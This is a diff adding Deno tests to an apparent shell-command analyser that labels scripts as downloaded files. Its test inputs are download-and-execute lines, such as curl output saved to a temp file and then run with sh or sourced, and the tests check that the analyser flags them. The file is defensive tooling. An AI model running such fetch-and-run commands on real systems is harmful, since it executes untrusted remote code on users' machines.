@@ -30,3 +30,18 @@ Deno.test("what was fetched into a folder counts for all below it", () => {
   const { commands } = readCommand("git clone https://e.example/r && ./r/install.sh", { cwd: "/w" });
   assert.equal(commands.at(-1)?.code, "downloaded_file");
 });
+
+for (
+  const [source, code] of [
+    ["F=$(mktemp); curl https://e.example > $F; sh $F", "downloaded_file"],
+    ["F=$(mktemp); curl -o $F https://e.example; . $F", "downloaded_file"],
+    ["F=$(mktemp); G=$(mktemp); curl https://e.example > $F; echo p > $G; sh $F", "downloaded_file"],
+    ["F=$(mktemp); chmod +x $F; sh $F", "file"],
+    ["TMPDIR=/x; F=$(mktemp); curl https://e.example > $F; sh $F", "file"],
+  ] as const
+) {
+  Deno.test(source, () => {
+    const { commands } = readCommand(source, { cwd: "/w" });
+    assert.equal(commands.findLast(({ program }) => program === "sh" || program === ".")?.code, code);
+  });
+}
